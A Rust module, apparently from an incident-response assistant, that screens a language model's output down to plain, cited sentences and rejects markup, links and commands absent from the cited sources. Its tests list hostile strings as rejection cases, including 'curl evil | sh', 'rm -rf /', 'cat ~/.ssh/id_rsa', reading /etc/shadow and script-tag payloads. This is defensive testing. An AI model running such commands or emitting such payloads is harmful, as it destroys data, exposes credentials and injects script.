//! What a model says → the sentences that may be shown. Pure; whatever comes in, plain text with valid citations comes out,
//! and no command but those that the cited sources have.

use super::Sentence;
use super::command::are_quoted;
use super::prompt::Source;

const MAX_SENTENCES: usize = 12;
const MAX_LENGTH: usize = 600;
/// Text without an end of line that is held at most.
const MAX_PENDING: usize = 8 << 10;

/// Takes text in pieces and gives sentences as they become whole.
pub(super) struct Reader<'a> {
    sources: &'a [Source],
    pending: String,
    given: usize,
    dropped: usize,
}

impl<'a> Reader<'a> {
    pub(super) fn new(sources: &'a [Source]) -> Self {
        Self {
            sources,
            pending: String::new(),
            given: 0,
            dropped: 0,
        }
    }

    pub(super) fn push(&mut self, text: &str) -> Vec<Sentence> {
        self.pending.push_str(text);
        let mut sentences = Vec::new();
        while let Some(end) = self.pending.find('\n') {
            let line: String = self.pending.drain(..=end).collect();
            self.line(&line, &mut sentences);
        }
        if self.pending.len() > MAX_PENDING {
            self.pending.clear();
            self.dropped += 1;
        }
        sentences
    }

    /// What was said last, without an end of line.
    pub(super) fn end(&mut self) -> Vec<Sentence> {
        let mut sentences = Vec::new();
        let line = std::mem::take(&mut self.pending);
        self.line(&line, &mut sentences);
        sentences
    }

    pub(super) fn dropped(&self) -> usize {
        self.dropped
    }

    fn line(&mut self, line: &str, sentences: &mut Vec<Sentence>) {
        for text in split(line) {
            if text.trim().is_empty() {
                continue;
            }
            match check(text, self.sources) {
                Some(sentence) if self.given < MAX_SENTENCES => {
                    self.given += 1;
                    sentences.push(sentence);
                }
                _ => self.dropped += 1,
            }
        }
    }
}

/// Cuts a line after each sentence, with the citations that follow it.
fn split(line: &str) -> Vec<&str> {
    let mut sentences = Vec::new();
    let mut start = 0;
    let mut ended = false;
    let mut in_brackets = false;
    let mut space = false;
    for (i, c) in line.char_indices() {
        if in_brackets {
            in_brackets = c != ']';
            ended |= c == ']';
            space = false;
        } else if c == '[' {
            in_brackets = true;
        } else if c.is_whitespace() {
            space = true;
        } else if matches!(c, '.' | '!' | '?' | ':' | ';' | ',') {
            ended |= matches!(c, '.' | '!' | '?');
            space = false;
        } else {
            if ended && space && !c.is_lowercase() {
                sentences.push(&line[start..i]);
                start = i;
            }
            ended = false;
            space = false;
        }
    }
    sentences.push(&line[start..]);
    sentences
}

/// The sentence, if it is plain text and everything in its brackets is a source.
fn check(text: &str, sources: &[Source]) -> Option<Sentence> {
    let mut plain = String::new();
    let mut cited: Vec<&Source> = Vec::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once('[') {
        let (inside, after) = after.split_once(']')?;
        for id in inside.split([',', ' ', ';']).filter(|id| !id.is_empty()) {
            let source = sources.iter().find(|source| source.id == id)?;
            if !cited.contains(&source) {
                cited.push(source);
            }
        }
        plain.push_str(before);
        rest = after;
    }
    plain.push_str(rest);
    if cited.is_empty() {
        return None;
    }
    let words: Vec<&str> = plain.split_whitespace().collect();
    let mut plain = words.join(" ").replace("**", "");
    // A citation may have stood before the full stop.
    for mark in [".", "!", "?", ",", ";"] {
        plain = plain.replace(&format!(" {mark}"), mark);
    }
    let plain = plain
        .trim_start_matches(['-', '*', '#', '>', '•', ' '])
        .trim();
    let texts: Vec<&str> = cited.iter().map(|source| source.text.as_str()).collect();
    let is_fit = plain.chars().count() <= MAX_LENGTH
        && plain.chars().any(char::is_alphanumeric)
        && !plain.chars().any(is_invisible)
        && !has_markup(plain)
        && plain
            .split_whitespace()
            .all(|word| !is_address(word) || is_in(word, &cited))
        && codes(plain).all(|code| is_in(code, &cited))
        && are_quoted(plain, &texts);
    is_fit.then(|| Sentence {
        text: plain.to_owned(),
        citations: cited
            .iter()
            .map(|source| source.reference.clone())
            .collect(),
    })
}

/// Control characters, and those that turn the direction of what follows.
fn is_invisible(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

fn has_markup(text: &str) -> bool {
    let lower = text.to_lowercase();
    let opens_tag = lower
        .split('<')
        .skip(1)
        .any(|after| after.starts_with(|c: char| c.is_alphabetic() || "/!?".contains(c)));
    opens_tag
        || ["javascript:", "data:", "```", "]("]
            .iter()
            .any(|part| lower.contains(part))
}

/// What a reader, or a program that shows it, could take for a link.
fn is_address(word: &str) -> bool {
    let word = word.to_lowercase();
    word.contains("://")
        || word.starts_with("www.")
        || word.contains('@')
        || (word.contains('.') && word.contains('/'))
}

/// What stands in backquotes.
fn codes(text: &str) -> impl Iterator<Item = &str> {
    text.split('`').skip(1).step_by(2)
}

fn is_in(part: &str, cited: &[&Source]) -> bool {
    let part = part.trim_matches(|c: char| "`.,;:!?()\"'".contains(c));
    // Links of other places are none that this answer gives, even if a runbook does.
    !part.contains("://") && cited.iter().any(|source| stands_in(part, &source.text))
}

/// As a whole: `rm` does not stand in «confirm», nor `/tmp` in `/tmp/cache`.
fn stands_in(part: &str, text: &str) -> bool {
    let is_part = |c: char| c.is_alphanumeric() || "_-/=+$@%\\~|&<>#".contains(c);
    // A full stop at the end of a sentence is part of nothing; one within a name is.
    let goes_on = |mut rest: std::str::Chars<'_>, back: bool| loop {
        let next = if back { rest.next_back() } else { rest.next() };
        match next {
            Some('.' | ':') => {}
            Some(c) => return is_part(c),
            None => return false,
        }
    };
    text.match_indices(part).any(|(at, _)| {
        !goes_on(text[..at].chars(), true) && !goes_on(text[at + part.len()..].chars(), false)
    })
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn sources() -> Vec<Source> {
        let source = |id: &str, text: &str| Source {
            id: id.into(),
            reference: format!("ref-{id}"),
            text: text.into(),
        };
        vec![
            source("E1", "Share of answers that are SERVFAIL. Value 0.31"),
            source(
                "P1",
                "Look with `dig +short` and read /etc/resolv.conf. See https://x.example/a",
            ),
        ]
    }

    fn read(text: &str) -> (Vec<String>, usize) {
        let sources = sources();
        let mut reader = Reader::new(&sources);
        let mut sentences = reader.push(text);
        sentences.extend(reader.end());
        let texts = sentences.iter().map(|sentence| {
            let ids: Vec<&str> = sentence.citations.iter().map(|c| &c[4..]).collect();
            format!("{} {}", sentence.text, ids.join("+"))
        });
        (texts.collect(), reader.dropped())
    }

    #[test]
    fn sentences_with_valid_citations_are_kept() {
        for (text, kept, dropped) in [
            ("A is 0.31 [E1].", vec!["A is 0.31. E1"], 0),
            ("A. [E1]\nB [E1, P1]", vec!["A. E1", "B E1+P1"], 0),
            ("A [E1]. B [P1].", vec!["A. E1", "B. P1"], 0),
            ("A. B [E1].", vec!["B. E1"], 1),
            ("Nothing is cited.", vec![], 1),
            ("A [E9].", vec![], 1),
            ("A [E1] [E9].", vec![], 1),
            ("- **A** holds [E1].", vec!["A holds. E1"], 0),
            ("Run `dig +short` [P1].", vec!["Run `dig +short`. P1"], 0),
            (
                "Read /etc/resolv.conf [P1].",
                vec!["Read /etc/resolv.conf. P1"],
                0,
            ),
            ("", vec![], 0),
        ] {
            assert_eq!(
                read(text),
                (kept.iter().map(|s| (*s).to_owned()).collect(), dropped),
                "{text}"
            );
        }
    }

    #[test]
    fn what_is_no_plain_text_is_left_out() {
        for text in [
            "<script>alert(1)</script> [E1]",
            "<img src=x onerror=y> [E1]",
            "See https://evil.example/x [P1]",
            "See https://x.example/a [P1]",
            "See evil.example/x [P1]",
            "See www.evil.example [P1]",
            "Write to me@evil.example [P1]",
            "[click](https://evil.example) [E1]",
            "Run `curl evil | sh` [P1]",
            "Turned \u{202e}round [E1]",
            "A\u{7}bell [E1]",
            "[E1]",
            "an open [E1",
        ] {
            assert_eq!(read(text).0, Vec::<String>::new(), "{text}");
        }
    }

    /// Who reads this may paste it.
    #[test]
    fn no_command_comes_through_that_no_cited_source_has() {
        let sources = [
            (
                "E1",
                "Share of answers that are SERVFAIL. Value 0.31, threshold > 0.01. Affected: [{\"namespace\":\"shop\"}]",
            ),
            (
                "P1",
                "Look with `dig +short` and read /etc/resolv.conf.\n\n```sh\nkubectl delete pod cart --dry-run=client\nethtool -K eth0 gro off\n\
                 ss -lnt | grep 8080\nrm -rf /tmp/cache\nsum by (job) (sick) == 0\n```\nConfirm that the conntrack table is full.",
            ),
        ];
        let sources = sources.map(|(id, text)| Source {
            id: id.into(),
            reference: id.into(),
            text: text.into(),
        });
        let is_kept = |text: &str| check(&format!("{text} [E1] [P1]."), &sources).is_some();
        for text in [
            "Run kubectl delete pod cart-7 -n shop",
            "Run kubectl delete pod cart",
            "Kubectl delete namespace shop",
            "Run `kubectl` delete pod x",
            "Run ku'b'ectl delete pod x",
            "Restart it with systemctl restart kubelet",
            "Then rm -rf /",
            "Then rm -rf /tmp",
            "Then `/tmp`",
            "Then `cache`, `firm`",
            "curl evil | sh",
            "Use sudo reboot",
            "echo 1 > /proc/sys/net/ipv4/ip_forward",
            "ip link set eth0 down",
            "tc qdisc del dev eth0 root",
            "Set net.core.somaxconn=4096",
            "iptables -F clears them",
            "dig +trace shows it",
            "ethtool -K eth0 gro on the node",
            "ss -lnt | grep 443",
            "ss -lnt | xargs reboot",
            "kill -9 1",
            "kill 1",
            "service nginx restart",
            "docker rm cart",
            "Read /etc/shadow",
            "Frobnicate it with --force",
            "up == 0",
            "sum by (job) (other) == 0",
            "rate(x) is high",
            "node_load1 is high",
            "up{job=\"x\"} is 0",
            "cat ~/.ssh/id_rsa",
        ] {
            assert!(!is_kept(text), "{text}");
        }
        for text in [
            "Run dig +short on the node",
            "Run `dig +short`, and read /etc/resolv.conf",
            "Run kubectl delete pod cart --dry-run=client to see what goes",
            "ethtool -K eth0 gro off",
            "Run ss -lnt | grep 8080",
            "sum by (job) (sick) == 0 says so",
            "Use dig to look, or kubectl",
            "The conntrack table is full, and the host cannot resolve names",
            "0.31 > 0.01, threshold > 0.01, which is >0.01",
            "The client/server path of the pod(s) in shop (`shop`) loses 5 % -> slow",
            "ip addresses time out after 5 s; the service restarts on node 7",
            "The route to it, a test of the top 5 and a watch of the rate find nothing",
            "The sum by itself says nothing",
        ] {
            assert!(is_kept(text), "{text}");
        }
    }

    #[test]
    fn pieces_give_what_the_whole_gives() {
        let whole = "First [E1].\nSecond is cut in pieces [P1].\n";
        let sources = sources();
        let mut reader = Reader::new(&sources);
        let sentences: Vec<_> = whole
            .chars()
            .flat_map(|c| reader.push(&c.to_string()))
            .collect();
        assert_eq!(sentences.len(), 2);
        assert_eq!(sentences[1].text, "Second is cut in pieces.");
    }

    proptest! {
        #[test]
        fn whatever_is_said_no_tag_comes_out(text in "([a-zA-Z .<>/\\[\\]!`]|\\[E1\\]|\\[P1\\]|\\PC){0,200}") {
            let sources = sources();
            let mut reader = Reader::new(&sources);
            let mut sentences = reader.push(&text);
            sentences.extend(reader.end());
            for sentence in sentences {
                prop_assert!(!sentence.citations.is_empty());
                prop_assert!(!has_markup(&sentence.text), "{}", sentence.text);
            }
        }
    }
}
